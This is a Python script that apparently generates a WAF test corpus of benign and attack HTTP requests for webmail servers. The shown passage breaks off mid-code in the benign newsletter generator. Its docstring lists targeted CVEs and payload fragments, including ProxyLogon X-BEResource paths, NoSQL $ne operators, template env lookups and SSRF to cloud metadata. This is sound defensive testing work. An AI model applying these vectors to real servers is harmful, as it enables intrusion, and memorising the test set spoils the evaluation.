#!/usr/bin/env python3
"""Held-out HTTP test corpus: webmail and groupware (set "webmail").

What it is
    A deterministic generator (random.Random with a fixed seed, stdlib
    only) of JSONL request records for exercising a web application
    firewall against the traffic of webmail and groupware servers:
    Roundcube, Zimbra (SOAP JSON/XML, REST attachment URLs), Horde, SOGo,
    Nextcloud Mail, Outlook on the web / Exchange Web Services and
    autodiscover, Exchange ActiveSync (WBXML bodies), Open-Xchange,
    RainLoop / SnappyMail, JMAP servers, CalDAV / CardDAV invites and
    vCards, contact CSV imports, Sieve filter editors, unsubscribe and
    spam-report flows, and inbound-mail webhooks (Mailgun, SendGrid,
    Postmark).

    "benign" emits ~450 ordinary requests (category "benign", expect
    "pass"): mail sent in many languages, HTML newsletters with tables,
    inline styles, <style> media queries, tracking pixels and Outlook
    conditional comments, quoted replies and forwarded headers, prose
    about SQL or code, subjects such as "RE: select your seats", calendar
    invites with Teams / Zoom links, PGP-armored messages and keys, S/MIME
    parts, signatures with vCards, one-click unsubscribe posts, webhook
    payloads with SPF / DKIM results.  It also emits 50 "dev-content"
    requests (expect "pass", counted apart): sysadmins and developers
    mailing each other or a helpdesk snippets of Sieve, Postfix / Dovecot
    configuration, shell, SQL, PHP, PowerShell (Exchange cmdlets) and
    JavaScript.

    "attacks" emits ~270 requests (expect "detect") in the categories
    sqli, xss, lfi, rfi, rce, php, java, ssrf, xxe, ssti, nosqli, ldap,
    crlf, protocol, scanner and generic, through the domain's real
    injection points: stored XSS in HTML mail bodies, drafts and
    signatures (SVG, <style> @import / expression(), mutation XSS with
    <noscript>/<math>/<svg> nesting, entity-encoded javascript: links,
    data: URIs, CSS exfiltration), Roundcube CVEs (CVE-2016-9920 _from
    sendmail arguments, CVE-2020-12641 im_convert_path, CVE-2020-12640
    plugin path, CVE-2023-5631 SVG <use>, CVE-2024-37383 SVG <animate>,
    CVE-2024-42009 body attribute, CVE-2025-49113 serialized object via
    _from / upload name), Zimbra CVEs (CVE-2022-27925 / CVE-2022-37042
    mboximport zip slip, CVE-2022-41352 cpio, CVE-2019-9670 autodiscover
    XXE, CVE-2019-9621 ProxyServlet SSRF and memcached injection,
    CVE-2013-7091 skin traversal, CVE-2023-37580 momoveto XSS), Exchange
    ProxyLogon / ProxyShell / ProxyNotShell paths and X-BEResource
    cookies, EWS / OWA XXE and ViewState, LDAP injection in address-book
    search, IMAP / SMTP command injection via CRLF in folder names and
    recipients, header injection in contact forms, SSRF in image proxies,
    link previews and ICS subscriptions, traversal in attachment
    parameters, zip slip in mailbox import, SSTI in mail templates and
    autoresponders, Log4Shell in X-headers, SQLi in search, NoSQL
    operators in JMAP / WildDuck filters and scanner probes.  Encodings
    vary as real attackers vary them: percent, double percent, JSON
    \\u escapes, HTML entities, quoted-printable, MIME encoded-words,
    mixed case.

    Written blind: without looking at the WAF's rules, its tests, or the
    payload lists of the other corpus scripts, so it measures
    generalisation rather than rule-fitting.

How to run
    python3 scripts/corpus-webmail.py attacks > rulesets/tests/data/webmail-attacks.jsonl
    python3 scripts/corpus-webmail.py benign  > rulesets/tests/data/webmail-benign.jsonl
    python3 scripts/corpus-webmail.py stats

Output (one JSON object per line)
    {"id": "webmail/<category>/<subgroup>-NNN", "set": "webmail",
     "category": ..., "expect": "detect"|"pass", "method", "uri"
     (percent-encoded as a client sends it), "version": "HTTP/1.1",
     "headers": [[name, value], ...], "body"?: str}
    or, for exact non-UTF-8 bytes (WBXML, binary attachments, archives),
    {"id", "set", "category", "expect", "raw_b64"} with the whole raw
    request (request line, headers with a correct Content-Length, body)
    base64-encoded.

First sight (2026-12-06, /work/bin/pr-s3 eval, built-in rules, palisade-rules 0.1.0)
------------------------------------------------------------------------------------
Counts: 276 attacks (xss 59, ssrf 24, sqli 23, lfi 21, rce 21, java 15,
php 14, xxe 14, ssti 14, crlf 14, scanner 13, nosqli 11, ldap 11,
generic 8, rfi 7, protocol 7), 498 benign (448 ordinary + 50 dev-content).

PL1 (threshold 5):
  attacks detected  262/276 = 94.9 %  (crlf 11/14, ssrf 20/24, xss 55/59,
                    ldap 10/11, nosqli 10/11, ssti 13/14, all other
                    categories complete)
  benign flagged    31/448 = 6.9 % ordinary, 23/50 dev-content (54/498)

Attacks passed (14): CSS-only payloads in HTML mail (<style>@import of a
remote sheet; attribute-selector CSS exfiltration of the CSRF token), an
XSS subject hidden in a MIME encoded-word and a quoted-printable SVG in an
imported .eml, the ProxyLogon X-BEResource cookie on /ecp/y.js and an
/ecp/ request with Email=autodiscover/autodiscover.json plus X-BEResource,
SnappyMail ProxyExternal URLs (file:// and GCE metadata) hidden in
base64url, a listmonk Go template {{ env "..." }}, WildDuck
query[$ne]= in a query string, an LDAP filter in a Zimbra SearchGalRequest
(JSON sent as application/soap+xml), and CRLF / IMAP or SMTP command
injection inside JSON strings (JMAP Mailbox/set name, Zimbra subject) and
in a ManageSieve script-set name.

Ordinary benign flagged (31): every WBXML ActiveSync body and one binary
.xlsx upload (protocol-340, NUL bytes in the body), raw Sieve scripts
(generic-101 on `require ["`, plus protocol-110 on application/sieve for a
JMAP blob upload), a CalDAV REPORT (protocol-011), SES inbound
notifications whose JSON carries the raw MIME (crlf-120 on CRLF CRLF
before <!DOCTYPE), osTicket API tickets whose message and attachments are
data: URIs as the API requires (xss-031, ssrf-107).

Dev-content flagged (23 of 50): Sieve scripts (generic-101), Dovecot SQL
with CONCAT( (sqli-100), shell pipelines and $(date ...) / 2>&1 in cron
lines (rce-101/102/120/130/140), an IMAP session transcript (crlf-150),
SQL maintenance statements (sqli-011/030/040/041), "[php]" in a subject
and getenv( (php-100/110), [System.IO.File]:: in PowerShell (rce-154),
process.env / console.log( in JavaScript (generic-101/102), Python
print(len( (php-111), an nginx `deny all; }` block (php-122) and
/var/log, /var/www, /var/mail paths (lfi-200).

Generator fixes made after the first run (not tuning): a literal "%%22"
in the CVE-2025-49113 upload URI and wrong PHP serialized-string lengths
(malformed requests); a scanner probe whose only scanner trait was an
invented X-Nuclei-Template header was replaced by nuclei's real ProxyLogon
check (browser UA, interactsh host in the X-BEResource cookies), and the
Jaeles user agent was corrected to the string Jaeles really sends.  The
first run read 261/276 attacks; the numbers above are for this corpus.
"""

import base64
import io
import json
import random
import sys
import zipfile
from urllib.parse import quote, urlencode

SEED = 0x3E11A1
R = random.Random(SEED)
SET = "webmail"
OUT = []
_COUNT = {}


# --------------------------------------------------------------------------
# record helpers
# --------------------------------------------------------------------------

def _next_id(category, subgroup):
    key = (category, subgroup)
    _COUNT[key] = _COUNT.get(key, 0) + 1
    return "%s/%s/%s-%03d" % (SET, category, subgroup, _COUNT[key])


def _expect(category):
    return "pass" if category in ("benign", "dev-content") else "detect"


def emit(category, subgroup, method, uri, headers, body=None):
    """One request as method/uri/headers/body.  A body that is bytes and
    not valid UTF-8 turns the record into a raw_b64 one."""
    if isinstance(body, bytes):
        try:
            body = body.decode("utf-8")
        except UnicodeDecodeError:
            return emit_raw(category, subgroup, method, uri, headers, body)
    rec = {
        "id": _next_id(category, subgroup),
        "set": SET,
        "category": category,
        "expect": _expect(category),
        "method": method,
        "uri": uri,
        "version": "HTTP/1.1",
        "headers": _with_length(headers, body),
    }
    if body is not None:
        rec["body"] = body
    OUT.append(rec)
    return rec


def _with_length(headers, body):
    hs = [list(h) for h in headers if h[0].lower() != "content-length"]
    if body is not None:
        n = len(body.encode("utf-8")) if isinstance(body, str) else len(body)
        hs.append(["Content-Length", str(n)])
    return hs


def raw_bytes(method, uri, headers, body=b"", version="HTTP/1.1",
              fix_length=True):
    if isinstance(body, str):
        body = body.encode("utf-8")
    hs = _with_length(headers, body if (body or method in ("POST", "PUT")) else None) \
        if fix_length else [list(h) for h in headers]
    head = "%s %s %s\r\n" % (method, uri, version)
    head += "".join("%s: %s\r\n" % (k, v) for k, v in hs)
    return head.encode("utf-8") + b"\r\n" + body


def emit_raw(category, subgroup, method, uri, headers, body=b"",
             fix_length=True, raw=None):
    if raw is None:
        raw = raw_bytes(method, uri, headers, body, fix_length=fix_length)
    rec = {
        "id": _next_id(category, subgroup),
        "set": SET,
        "category": category,
        "expect": _expect(category),
        "raw_b64": base64.b64encode(raw).decode("ascii"),
    }
    OUT.append(rec)
    return rec


# --------------------------------------------------------------------------
# small random helpers (all through R, so output is deterministic)
# --------------------------------------------------------------------------

def pick(seq):
    return seq[R.randrange(len(seq))]


def hexs(n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


def alnum(n):
    return "".join(R.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")
                   for _ in range(n))


def b64blob(nbytes, width=64):
    raw = bytes(R.randrange(256) for _ in range(nbytes))
    s = base64.b64encode(raw).decode("ascii")
    return "\n".join(s[i:i + width] for i in range(0, len(s), width))


def ts_ms():
    return str(1733000000000 + R.randrange(90_000_000_000))


def boundary():
    return "----WebKitFormBoundary" + alnum(16)


def form(pairs):
    """application/x-www-form-urlencoded as browsers send it."""
    return urlencode(pairs)


def qs(pairs):
    """A query string with %20 for spaces (as XHR clients build it)."""
    return "&".join("%s=%s" % (quote(k, safe=""), quote(v, safe=""))
                    for k, v in pairs)


def multipart(parts, bnd=None):
    """parts: (name, filename|None, content_type|None, content str|bytes).
    Returns (content_type_header, body_bytes)."""
    bnd = bnd or boundary()
    out = b""
    for name, filename, ctype, content in parts:
        out += b"--" + bnd.encode() + b"\r\n"
        disp = 'Content-Disposition: form-data; name="%s"' % name
        if filename is not None:
            disp += '; filename="%s"' % filename
        out += disp.encode("utf-8") + b"\r\n"
        if ctype:
            out += ("Content-Type: %s\r\n" % ctype).encode()
        out += b"\r\n"
        out += content if isinstance(content, bytes) else content.encode("utf-8")
        out += b"\r\n"
    out += b"--" + bnd.encode() + b"--\r\n"
    return "multipart/form-data; boundary=" + bnd, out


def qp_encode(text):
    """Quoted-printable (RFC 2045) of a str, soft line breaks at 76."""
    out, line = [], ""
    for ch in text.encode("utf-8"):
        c = chr(ch)
        if ch == 10:
            out.append(line)
            line = ""
            continue
        if ch == 13:
            continue
        if (33 <= ch <= 126 and c != "=") or c == " ":
            tok = c
        else:
            tok = "=%02X" % ch
        if len(line) + len(tok) > 75:
            out.append(line + "=")
            line = ""
        line += tok
    out.append(line)
    return "\r\n".join(out)


def encoded_word(text, enc="B"):
    if enc == "B":
        return "=?UTF-8?B?%s?=" % base64.b64encode(text.encode()).decode()
    q = "".join(c if c.isalnum() else "=%02X" % b
                for c, b in ((chr(b), b) for b in text.encode()))
    return "=?UTF-8?Q?%s?=" % q.replace("=20", "_")


def html_entities(text, style="dec"):
    if style == "dec":
        return "".join("&#%d;" % ord(c) for c in text)
    if style == "hex":
        return "".join("&#x%x;" % ord(c) for c in text)
    return "".join("&#%07d;" % ord(c) for c in text)


def json_u(text):
    """JSON string body with every < > " ' ( ) escaped as \\uXXXX."""
    return "".join("\\u%04x" % ord(c) if c in "<>\"'()=:/" else c for c in text)


# --------------------------------------------------------------------------
# shared data: hosts, clients, people, text
# --------------------------------------------------------------------------

UA_DESKTOP = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.2849.80",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.6; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
]
UA_MOBILE = [
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.39 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36",
]
UA_ANY = UA_DESKTOP + UA_MOBILE
ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
LANGS = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.7", "fr-FR,fr;q=0.9,en;q=0.8",
         "es-ES,es;q=0.9", "ja-JP,ja;q=0.9,en;q=0.6", "pl-PL,pl;q=0.9,en;q=0.5",
         "pt-BR,pt;q=0.9,en;q=0.8", "nl-NL,nl;q=0.9,en;q=0.8", "ru-RU,ru;q=0.9,en;q=0.6"]

RC_HOSTS = ["webmail.example.com", "mail.acme-corp.de", "roundcube.uni-example.edu",
            "webmail.kanzlei-huber.at", "mail.example.org"]
ZM_HOSTS = ["mail.zimbra-example.com", "zimbra.example.net", "mx1.hosting-example.fr"]
OWA_HOSTS = ["outlook.contoso.com", "mail.fabrikam.com", "owa.example-gov.org"]
SOGO_HOSTS = ["sogo.example.ch", "groupware.example.nl"]
HORDE_HOSTS = ["horde.example-isp.net", "webmail.example-isp.net"]
NC_HOSTS = ["cloud.example.com", "nc.example-agency.io"]
OX_HOSTS = ["ox.example-hosting.de", "app.ox-example.com"]
SNAPPY_HOSTS = ["snappymail.example.com", "mail.example.dev"]
JMAP_HOSTS = ["api.fastmail-example.com", "jmap.example.org", "mail.stalwart-example.net"]
WD_HOSTS = ["wildduck-api.example.com"]
HOOK_HOSTS = ["hooks.example-helpdesk.io", "app.example-crm.com", "inbound.example-saas.com"]

FIRST = ["Alice", "Bob", "Chen", "Dmitri", "Emma", "Fatima", "Giulia", "Hiroshi", "Ines",
         "Jakub", "Kwame", "Lena", "Mateo", "Nadia", "Olivier", "Priya", "Quentin",
         "Rosa", "Sven", "Tomasz", "Ulla", "Valentina", "Wei", "Yusuf", "Zofia",
         "Anders", "Beatriz", "Carlos", "Dana", "Eszter"]
LAST = ["Anderson", "Brown", "Chen", "Dubois", "Eriksen", "Fischer", "Garcia", "Hoffmann",
        "Ivanova", "Jensen", "Kowalski", "Lopez", "Müller", "Nakamura", "O'Brien",
        "Petrov", "Quinn", "Rossi", "Schmidt", "Tanaka", "Umarov", "Visser",
        "Wójcik", "Xu", "Yamamoto", "Zimmermann"]
DOMAINS = ["example.com", "acme-corp.de", "contoso.com", "fabrikam.com", "example.org",
           "uni-example.edu", "example-partner.co.uk", "example.fr", "example.jp"]


def person():
    f, l = pick(FIRST), pick(LAST)
    local = (f[0] + "." + l).lower().replace("'", "").replace("ü", "ue").replace("ó", "o")
    return "%s %s" % (f, l), "%s@%s" % (local, pick(DOMAINS))


def addr():
    name, mail = person()
    return '%s <%s>' % (name, mail) if R.random() < 0.6 else mail


def rc_cookie():
    return "roundcube_sessid=%s; roundcube_sessauth=%s; roundcube_cookies=enabled" % (
        alnum(26).lower(), alnum(40))


def zm_cookie():
    return "ZM_AUTH_TOKEN=0_%s_%s; JSESSIONID=node0%s.node0; ZM_TEST=true" % (
        hexs(40), hexs(120), alnum(24).lower())


def owa_cookie():
    return ("X-OWA-CANARY=%s; ClientId=%s; OpenIdConnect.token.v1=%s; "
            "X-BackEndCookie=S-1-5-21-%d-%d-%d-%d=u56Lnp2ejJqBx8nMysbGzsfSnMeax9LLnJ3H0sadzszSz8ebz8bLnMnMx8zGgYHNz83O0s/L0s7Lq8/Oxc7OxczKgc3L" % (
                alnum(76), hexs(32).upper(), alnum(60),
                R.randrange(10**9), R.randrange(10**9), R.randrange(10**9), R.randrange(1000, 9999)))


def base_headers(host, ua=None, accept="*/*", cookie=None, ctype=None, extra=()):
    h = [["Host", host], ["User-Agent", ua or pick(UA_DESKTOP)], ["Accept", accept],
         ["Accept-Language", pick(LANGS)], ["Accept-Encoding", "gzip, deflate, br"]]
    if ctype:
        h.append(["Content-Type", ctype])
    h.extend([list(x) for x in extra])
    if cookie:
        h.append(["Cookie", cookie])
    return h


def rc_headers(host, ctype=None, xhr=True, extra=()):
    ex = [["Origin", "https://" + host],
          ["Referer", "https://%s/?_task=mail&_mbox=INBOX" % host]]
    if xhr:
        ex += [["X-Requested-With", "XMLHttpRequest"], ["X-Roundcube-Request", alnum(32)]]
    ex += list(extra)
    return base_headers(host, accept="application/json, text/javascript, */*; q=0.01" if xhr else ACCEPT_HTML,
                        cookie=rc_cookie(), ctype=ctype, extra=ex)


# --------------------------------------------------------------------------
# mail text: subjects, bodies in many languages, replies, newsletters
# --------------------------------------------------------------------------

SUBJECTS = [
    "RE: select your seats for the all-hands",
    "Drop by my office after lunch?",
    "Re: where should we go for the team dinner",
    "Fwd: Order #44817 - can you delete the duplicate?",
    "Insert your name in the sign-up sheet (by Friday)",
    "Please execute the NDA before the kick-off",
    "Q3 numbers: union of both regional reports",
    "AW: Re: Angebot Nr. 2024-1187",
    "Alert: sudden drop in newsletter sign-ups",
    "Exec summary & next steps",
    "Script for Thursday's video shoot",
    "RE: admin access for the new hire",
    "Invitation: Sprint review @ Wed 10:00 - 11:00 (CET)",
    "Welcome aboard, Kwame!",
    "Table for 6 at 7pm - confirmed",
    "Order by Tuesday please: team hoodies",
    "Your password was changed",
    "Re: Update from the board - where do we stand?",
    "[ops-list] Digest, Vol 112, Issue 4",
    "Lunch & learn: JavaScript for non-developers",
    "Having trouble with the <Enter> key on my laptop",
    "Re: Re: Re: printer on 3rd floor",
    "Cancel my Friday 1:1 — sorry!",
    "Fwd: Invoice 2024/INV/00391 (overdue)",
    "Holiday rota — please confirm or decline",
    "Reminder: timesheets due 5pm",
    "Select one: pizza or sushi for the launch party",
    "Re: \"null\" showing up in the export?",
    "TR: Compte rendu de la réunion du 12/11",
    "RV: Presupuesto revisado (versión 3)",
    "Odp: Faktura VAT 11/2024",
    "件名: 来週の打ち合わせについて",
    "Re: Договор на поставку — правки",
    "Re: Proposta comercial — dúvidas",
    "SV: Möte om budgeten",
    "Re: 1 OR 2 slides for the board deck?",
    "Out of office: back on 6 January",
    "Shared drive moved to /Projects/2025 — update your bookmarks",
    "Meeting notes: 50% off renewal if we sign before 31/12",
    "Where did the <table> layout go in the new template?",
]

GREETINGS = {
    "en": ("Hi {n},", "Best regards,", [
        "Thanks for sending the figures over. I had a quick look and the totals for March match what finance reported.",
        "Could you select the two dates that work best for you? I'll book the room once everyone has replied.",
        "Just a heads-up that the client wants to drop the second phase and focus on the migration instead.",
        "I've attached the updated contract; the only change is in section 4 (payment terms).",
        "Let's sync tomorrow morning, I think we can merge both proposals into one document.",
        "The delivery is scheduled for Tuesday between 9 and 12. Someone needs to sign for it at reception.",
        "Please update the shared sheet where it says 'TBD' — we need the final numbers by end of day.",
    ]),
    "de": ("Hallo {n},", "Viele Grüße", [
        "vielen Dank für die schnelle Rückmeldung. Ich habe die Änderungen im Angebot übernommen.",
        "können wir den Termin auf Donnerstag 14:00 Uhr verschieben? Am Mittwoch bin ich beim Kunden.",
        "anbei die überarbeitete Präsentation. Bitte schau dir besonders Folie 7 (Kostenübersicht) an.",
        "die Rechnung ist leider noch nicht eingegangen – könntest du bitte in der Buchhaltung nachfragen?",
    ]),
    "fr": ("Bonjour {n},", "Cordialement,", [
        "merci pour votre retour rapide. Je vous envoie ci-joint le compte rendu de la réunion d'hier.",
        "pourriez-vous confirmer votre présence au séminaire du 14 ? Le déjeuner sera servi à 12h30.",
        "comme convenu, voici le devis révisé. Les frais de déplacement sont désormais inclus.",
    ]),
    "es": ("Hola {n}:", "Un saludo,", [
        "te reenvío el presupuesto con los cambios que comentamos. ¿Puedes revisarlo antes del viernes?",
        "la reunión de seguimiento queda fijada para el martes a las 10:00 en la sala Goya.",
        "gracias por la información. Seleccionaremos a los candidatos la semana que viene.",
    ]),
    "pt": ("Olá {n},", "Atenciosamente,", [
        "segue em anexo a proposta comercial revisada. Qualquer dúvida, estou à disposição.",
        "conseguimos antecipar a entrega para quinta-feira. Confirme, por favor, o endereço.",
    ]),
    "it": ("Ciao {n},", "Un caro saluto,", [
        "ti mando il verbale della riunione di ieri. Fammi sapere se ho dimenticato qualcosa.",
        "per la trasferta a Milano ho prenotato il treno delle 7:35, ritorno alle 18:10.",
    ]),
    "nl": ("Hoi {n},", "Met vriendelijke groet,", [
        "bedankt voor je bericht. Ik heb de offerte aangepast en de nieuwe versie bijgevoegd.",
        "de vergadering van donderdag gaat niet door; we plannen een nieuwe datum in januari.",
    ]),
    "pl": ("Cześć {n},", "Pozdrawiam serdecznie,", [
        "w załączniku przesyłam poprawioną fakturę. Proszę o potwierdzenie otrzymania.",
        "spotkanie w sprawie budżetu przenosimy na środę, godz. 11:00, sala 2.14.",
    ]),
    "sv": ("Hej {n},", "Vänliga hälsningar,", [
        "tack för senast! Här kommer protokollet från mötet och nästa steg för projektet.",
    ]),
    "tr": ("Merhaba {n},", "Saygılarımla,", [
        "toplantı notlarını ekte bulabilirsiniz. Bir sonraki görüşme Çarşamba 15:00'te.",
    ]),
    "ru": ("Здравствуйте, {n}!", "С уважением,", [
        "направляю вам исправленную версию договора. Просьба подписать до конца недели.",
        "совещание переносится на четверг, 11:00. Повестка во вложении.",
    ]),
    "ja": ("{n}様", "よろしくお願いいたします。", [
        "いつもお世話になっております。来週の打ち合わせの日程について、火曜日の午後はいかがでしょうか。",
        "見積書を添付いたしました。ご確認のほどよろしくお願いいたします。",
    ]),
    "zh": ("{n}，您好：", "此致\n敬礼", [
        "附件是本季度的销售报表，请查收。如有问题请随时联系我。",
        "下周三下午两点在三楼会议室开项目评审会，请准时参加。",
    ]),
    "ko": ("{n}님, 안녕하세요.", "감사합니다.", [
        "요청하신 견적서를 첨부해 드립니다. 검토 후 회신 부탁드립니다.",
    ]),
    "ar": ("مرحباً {n}،", "مع أطيب التحيات،", [
        "أرفقت لك العرض المعدل. يرجى المراجعة وإبلاغي بأي ملاحظات قبل يوم الخميس.",
    ]),
    "he": ("שלום {n},", "בברכה,", [
        "מצורף הסיכום מהפגישה של אתמול. נשמח לקבל הערות עד סוף השבוע.",
    ]),
    "el": ("Γεια σου {n},", "Με εκτίμηση,", [
        "σου στέλνω συνημμένα την ενημερωμένη προσφορά. Περιμένω τα σχόλιά σου.",
    ]),
    "hi": ("नमस्ते {n},", "धन्यवाद,", [
        "कृपया संलग्न रिपोर्ट देखें। अगली बैठक सोमवार सुबह 10 बजे होगी।",
    ]),
    "vi": ("Chào {n},", "Trân trọng,", [
        "mình gửi lại bảng báo giá đã chỉnh sửa. Bạn xem giúp mình trước thứ Sáu nhé.",
    ]),
}
LANG_KEYS = list(GREETINGS)


def plain_body(lang=None, name=None, sender=None):
    lang = lang or pick(LANG_KEYS)
    hello, bye, lines = GREETINGS[lang]
    name = name or pick(FIRST)
    sender = sender or pick(FIRST)
    chosen = R.sample(lines, min(len(lines), R.randint(1, 2)))
    return "%s\n\n%s\n\n%s\n%s" % (hello.format(n=name), "\n\n".join(chosen), bye, sender)


def quoted_reply(lang=None):
    """A plain-text reply with '>' quoted history and a forwarded header."""
    orig_name, orig_mail = person()
    first = plain_body(lang)
    quoted = plain_body(pick(LANG_KEYS))
    intro = pick([
        "On Tue, 3 Dec 2024 at 09:41, %s <%s> wrote:" % (orig_name, orig_mail),
        "Am 12.11.2024 um 16:05 schrieb %s <%s>:" % (orig_name, orig_mail),
        "Le lun. 18 nov. 2024 à 11:20, %s <%s> a écrit :" % (orig_name, orig_mail),
        "-----Original Message-----\nFrom: %s <%s>\nSent: Monday, November 25, 2024 8:02 AM\nTo: team@example.com\nSubject: RE: select your seats" % (orig_name, orig_mail),
    ])
    q = "\n".join(("> " + ln) if ln else ">" for ln in quoted.split("\n"))
    if R.random() < 0.4:
        q += "\n>\n>> earlier: yes, drop it from the agenda and we'll revisit in Q1.\n>> -- \n>> sent from my phone"
    return "%s\n\n%s\n%s" % (first, intro, q)


def forwarded(lang="en"):
    n1, m1 = person()
    n2, m2 = person()
    return ("FYI, see below.\n\n---------- Forwarded message ---------\n"
            "From: %s <%s>\nDate: Wed, 4 Dec 2024 at 14:22\nSubject: %s\nTo: %s <%s>\n\n%s"
            % (n1, m1, pick(SUBJECTS), n2, m2, plain_body(lang)))


def html_body(text=None, with_sig=True, quote_html=False):
    text = text or plain_body()
    paras = "".join("<p>%s</p>" % p.replace("&", "&amp;").replace("<", "&lt;").replace("\n", "<br />")
                    for p in text.split("\n\n"))
    out = '<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8" /></head>' \
          '<body style="font-size: 10pt; font-family: Verdana,Geneva,sans-serif">' + paras
    if quote_html:
        n, m = person()
        out += ('<p>On 2024-11-28 17:03, %s wrote:</p><blockquote type="cite" style="padding: 0 0.4em; '
                'border-left: #1010ff 2px solid; margin: 0"><div style="margin: 0; padding: 0; font-family: '
                'monospace">%s</div></blockquote>' % (n, plain_body().replace("\n", "<br />")))
    if with_sig:
        out += signature_html()
    return out + "</body></html>"


def signature_html():
    n, m = person()
    return pick([
        '<div id="signature">-- <br /><strong>%s</strong><br />Account Manager | Example GmbH<br />'
        'Tel. <a href="tel:+4989123456">+49 89 123456</a> | <a href="mailto:%s">%s</a></div>' % (n, m, m),
        '<div class="pre">-- <br />%s<br />Head of Operations<br /><a href="https://www.example.com" '
        'target="_blank" rel="noreferrer">www.example.com</a></div>' % n,
        '<table cellpadding="0" cellspacing="0" style="font-family:Arial,sans-serif;font-size:12px;color:#333">'
        '<tr><td style="padding-right:10px;border-right:2px solid #0a66c2"><img src="https://cdn.example.com/sig/logo.png" '
        'width="64" height="64" alt="Example"></td><td style="padding-left:10px"><b>%s</b><br>Senior Consultant<br>'
        '<a href="https://www.linkedin.com/company/example" style="color:#0a66c2">LinkedIn</a></td></tr></table>' % n,
    ])


def newsletter_html():
    brand = pick(["Example Outdoor", "Fabrikam Weekly", "Contoso Dev Digest", "Bäckerei Example",
                  "Example Museum", "City Library News"])
    track = "https://t.%s/o/%s.gif?u=%s&c=%d" % (pick(["example-esp.com", "mailer.example.net"]),
                                                  hexs(24), hexs(16), R.randrange(10**6))
    rows = "".join(
        '<tr><td class="col" width="50%%" valign="top" style="padding:12px 18px;font-family:Helvetica,Arial,sans-serif;'
        'font-size:15px;line-height:22px;color:#222222;"><img src="https://cdn.example-esp.com/img/%s.jpg" width="260" '
        'style="display:block;border:0;max-width:100%%;" alt="%s"><h2 style="margin:12px 0 4px;font-size:18px;">%s</h2>'
        '<p style="margin:0 0 12px;">%s</p><a href="https://click.example-esp.com/c/%s?utm_source=newsletter&amp;'
        'utm_medium=email&amp;utm_campaign=dec24" style="color:#0b6efd;text-decoration:underline;">Read more &rarr;</a>'
        '</td></tr>' % (hexs(8), t, t, d, hexs(20))
        for t, d in R.sample([
            ("Winter sale", "Up to 40% off selected items until Sunday."),
            ("New in store", "Select from over 200 new arrivals this week."),
            ("Event: open evening", "Drop by on Thursday from 6pm, drinks on us."),
            ("Community update", "Thanks to 1,204 members who voted in our survey."),
            ("Release notes 4.2", "Faster search, a new dark theme and fewer clicks."),
            ("Opening hours", "Closed on 25 and 26 December, open as usual afterwards."),
        ], 3))
    return (
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">'
        '<html xmlns="http://www.w3.org/1999/xhtml" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">'
        '<head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">'
        '<meta name="x-apple-disable-message-reformatting"><title>%s</title>'
        '<!--[if mso]><noscript><xml><o:OfficeDocumentSettings><o:PixelsPerInch>96</o:PixelsPerInch>'
        '</o:OfficeDocumentSettings></xml></noscript><![endif]-->'
        '<style type="text/css">body{margin:0;padding:0;background:#f4f4f4;} table{border-collapse:collapse;'
        'mso-table-lspace:0pt;mso-table-rspace:0pt;} img{-ms-interpolation-mode:bicubic;} '
        '@media only screen and (max-width:600px){ .col{display:block !important;width:100%% !important;} '
        '.hide-mobile{display:none !important;} } @media (prefers-color-scheme: dark){ .bg{background:#111 !important;} }'
        '</style></head><body class="bg" style="margin:0;padding:0;">'
        '<div style="display:none;max-height:0;overflow:hidden;">This week: sale, new arrivals and an open evening&zwnj;&nbsp;&zwnj;&nbsp;</div>'
        '<center><table role="presentation" width="600" cellpadding="0" cellspacing="0" border="0" align="center" '
        'style="width:600px;background:#ffffff;"><tr><td align="center" style="padding:24px 0;background:#0b3d91;">'
        '<img src="https://cdn.example-esp.com/logo/%s.png" width="180" alt="%s" style="display:block;"></td></tr>'
        '%s<tr><td align="center" style="padding:20px;">'
        '<!--[if mso]><v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" href="https://click.example-esp.com/c/%s" '
        'style="height:44px;v-text-anchor:middle;width:220px;" arcsize="10%%" fillcolor="#0b6efd" stroke="f"><w:anchorlock/>'
        '<center style="color:#ffffff;font-family:Arial;font-size:16px;">Shop now</center></v:roundrect><![endif]-->'
        '<!--[if !mso]><!-- --><a href="https://click.example-esp.com/c/%s" style="background:#0b6efd;border-radius:4px;'
        'color:#ffffff;display:inline-block;font-family:Arial;font-size:16px;line-height:44px;text-align:center;'
        'text-decoration:none;width:220px;">Shop now</a><!--<![endif]--></td></tr>'
        '<tr><td style="padding:16px;font-size:11px;color:#888888;font-family:Arial;" align="center">You receive this '
        'because you subscribed at example.com. <a href="https://www.example-esp.com/unsubscribe?u=%s&amp;l=%s" '
